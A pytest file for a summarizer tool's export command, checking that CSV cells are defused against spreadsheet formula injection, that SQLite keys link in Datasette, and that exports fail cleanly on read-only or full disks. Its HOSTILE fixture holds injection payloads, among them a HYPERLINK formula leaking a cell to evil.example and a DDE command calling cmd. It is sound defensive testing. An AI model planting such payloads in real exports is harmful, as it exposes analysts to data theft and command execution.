"""Exported tables an analyst can trust (issue 24): cells a spreadsheet would run are defused, ids are stable,
SQLite declares its keys (Datasette links the tables), rows keep the input order, and an export that cannot
be written says so (exit 3) before reading anything, leaving no partial file.
"""

from __future__ import annotations

import asyncio
import csv
import json
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from summarizer.cli import cli
from summarizer.render.tables import article_row
from tests.mounts import fill, remount, tmpfs
from tests.servers import FROM_SCHEMA, Action, scripted_server
from tests.test_batch import lines, make_articles, scripted_batch
from tests.test_outputs import assert_one_line_reason
from tests.together import together

HOSTILE = {
    "headline": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "organiser": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name": "+1-2",
    "quote": "-2+3 \x1b[31mred\x1b[0m",
    "what": "  =1+1",
    "role": "\tTab-led",
}


def hostile_results(results: Path, where: Path) -> Path:
    """The fixture's results with formulas and control characters planted where an article or a model could."""
    records = [json.loads(line) for line in results.read_text(encoding="utf-8").splitlines()]
    brief = next(r["brief"] for r in records if r["brief"] and r["brief"]["chairs"] and r["brief"]["directives"])
    brief["summaries"][0]["headline"] = HOSTILE["headline"]
    brief["meeting"]["organiser"] = HOSTILE["organiser"]
    brief["chairs"][0].update(name=HOSTILE["name"], role=HOSTILE["role"])
    brief["chairs"][0]["evidence"]["quote"] = HOSTILE["quote"]
    brief["directives"][0]["what"] = HOSTILE["what"]
    out = where / "hostile.jsonl"
    out.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    return out


def test_csv_cells_a_spreadsheet_would_run_are_defused_and_control_characters_never_raw(
    batch_results: Path,
    tmp_path: Path,
) -> None:
    planted = hostile_results(batch_results, tmp_path)
    outcome = CliRunner().invoke(cli, ["export", str(planted), "--to", "csv", "-o", str(tmp_path / "tables")])
    assert outcome.exit_code == 0, outcome.output
    cells: list[str] = []
    for table in ("articles", "chairs", "targets", "directives"):
        raw = (tmp_path / "tables" / f"{table}.csv").read_text(encoding="utf-8")
        assert "\x1b" not in raw and "\r" not in raw.replace("\r\n", "\n")
        cells += [cell for row in csv.reader(raw.splitlines()) for cell in row]
    for value in HOSTILE.values():
        assert "'" + value.replace("\x1b", "\u241b") in cells, value  # as text, shown, never a formula
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))]


def test_sqlite_declares_keys_and_datasette_links_the_tables(batch_results: Path, tmp_path: Path) -> None:
    database = tmp_path / "briefs.db"
    outcome = CliRunner().invoke(cli, ["export", str(batch_results), "-o", str(database)])
    assert outcome.exit_code == 0, outcome.output
    with sqlite3.connect(database) as connection:
        assert connection.execute("PRAGMA foreign_key_check").fetchall() == []
        keys = {t: connection.execute(f"PRAGMA foreign_key_list({t})").fetchall() for t in ("chairs", "targets")}
        chairs = connection.execute("SELECT article_id, count(*) FROM chairs GROUP BY article_id").fetchall()
    connection.close()
    assert all(rows and rows[0][2:5] == ("articles", "article_id", "article_id") for rows in keys.values())
    article, count = chairs[0]
    view = asyncio.run(_datasette_view(database, article))
    assert view["primary_keys"] == (["article_id"], ["article_id", "position"])
    assert {"column": "article_id", "other_table": "articles", "other_column": "article_id"} in view["chairs_keys"]
    # The article's page in Datasette lists the rows of the other tables that point at it.
    assert view["status"] == 200 and f"{count} row" in view["links"] and "from article_id in chairs" in view["links"]


async def _datasette_view(database: Path, article: str) -> dict[str, Any]:
    from datasette.app import Datasette

    datasette = Datasette([str(database)])
    await datasette.invoke_startup()
    db = datasette.get_database(database.stem)
    page = await datasette.client.get(f"/{database.stem}/articles/{article}")
    text = re.sub(r"\s+", " ", page.text)
    return {
        "primary_keys": (await db.primary_keys("articles"), await db.primary_keys("chairs")),
        "chairs_keys": await db.foreign_keys_for_table("chairs"),
        "status": page.status_code,
        "links": text[text.find("Links from other tables") :][:2000],
    }


def test_ids_are_stable_across_runs_and_rows_keep_the_input_order(tmp_path: Path) -> None:
    paths = make_articles(tmp_path / "in", 4)
    slow = Action(content=FROM_SCHEMA, delay=0.6)
    quick = Action(content=FROM_SCHEMA)
    exports = []
    with scripted_server(
        [], choose=lambda body: slow if "numéro 0." in json.dumps(body, ensure_ascii=False) else quick
    ) as server:
        for run, jobs in (("first", 4), ("second", 1)):
            out = tmp_path / f"{run}.jsonl"
            CliRunner().invoke(cli, scripted_batch(tmp_path / "in", out, server.url, jobs)[3:])
            database = tmp_path / f"{run}.db"
            assert CliRunner().invoke(cli, ["export", str(out), "-o", str(database)]).exit_code == 0
            with sqlite3.connect(database) as connection:
                exports.append(connection.execute("SELECT input, article_id FROM articles").fetchall())
            connection.close()
            if run == "first":
                finished = [record["input"] for record in lines(out)]
    assert finished[-1] == str(paths[0])  # the slow first article was written last...
    assert [name for name, _ in exports[0]] == [str(p) for p in paths]  # ...yet its row comes first
    assert exports[0] == exports[1]  # the same article, the same id, in another run


def test_targets_missed_leaves_out_partially_met_and_a_failed_article_has_no_counts() -> None:
    statuses = ["met", "missed", "partially_met", "exceeded", "at_risk"]
    brief = {"targets": [{"status": status} for status in statuses]}
    row = article_row({"input": "a.txt", "sha256": "0" * 64, "status": "ok", "brief": brief})
    assert (row["targets_met"], row["targets_partially_met"], row["targets_missed"]) == (2, 1, 1)
    failed = article_row({"input": "b.txt", "sha256": None, "status": "failed", "brief": None})
    assert failed["targets_met"] is None and failed["targets_missed"] is None and failed["target_count"] is None


@pytest.mark.parametrize("name", ["out.csv", "out.parquet"])
def test_a_folder_export_to_a_file_name_says_to_give_a_folder(
    batch_results: Path,
    tmp_path: Path,
    name: str,
) -> None:
    outcome = CliRunner().invoke(cli, ["export", str(batch_results), "-o", str(tmp_path / name)])
    assert outcome.exit_code == 2 and "give a folder" in outcome.output
    assert not (tmp_path / name).exists()


def _export(results: Path, *args: str) -> Any:
    import subprocess
    import sys

    from tests.conftest import REPO

    command = [sys.executable, "-m", "summarizer", "export", str(results), *args]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, cwd=REPO)


def test_an_export_onto_a_read_only_disk_is_refused_before_reading(batch_results: Path, tmp_path: Path) -> None:
    with tmpfs(tmp_path / "ro") as mount:
        remount(mount, "ro")
        to_sqlite, to_csv = together(  # two independent refusals: side by side
            lambda: _export(batch_results, "-o", str(mount / "briefs.db")),
            lambda: _export(batch_results, "--to", "csv", "-o", str(mount / "tables")),
        )
        assert list(mount.iterdir()) == []
    assert_one_line_reason(to_sqlite, "read-only filesystem")
    assert_one_line_reason(to_csv, "read-only filesystem")


def test_an_export_onto_a_full_disk_keeps_the_old_files_whole(batch_results: Path, tmp_path: Path) -> None:
    with tmpfs(tmp_path / "full", size="256k") as mount:
        old_db = mount / "briefs.db"
        old_db.write_bytes(b"old database")
        (mount / "tables").mkdir()
        (mount / "tables" / "articles.csv").write_text("old,table\n", encoding="utf-8")
        fill(mount)
        to_sqlite = _export(batch_results, "-o", str(old_db))
        to_csv = _export(batch_results, "--to", "csv", "-o", str(mount / "tables"))
        assert old_db.read_bytes() == b"old database"
        assert sorted(p.name for p in (mount / "tables").iterdir()) == ["articles.csv"]
        assert (mount / "tables" / "articles.csv").read_text(encoding="utf-8") == "old,table\n"
        assert sorted(p.name for p in mount.iterdir()) == ["briefs.db", "filler", "tables"]  # no temporary file
    assert_one_line_reason(to_sqlite, "the disk is full")
    assert_one_line_reason(to_csv, "the disk is full")
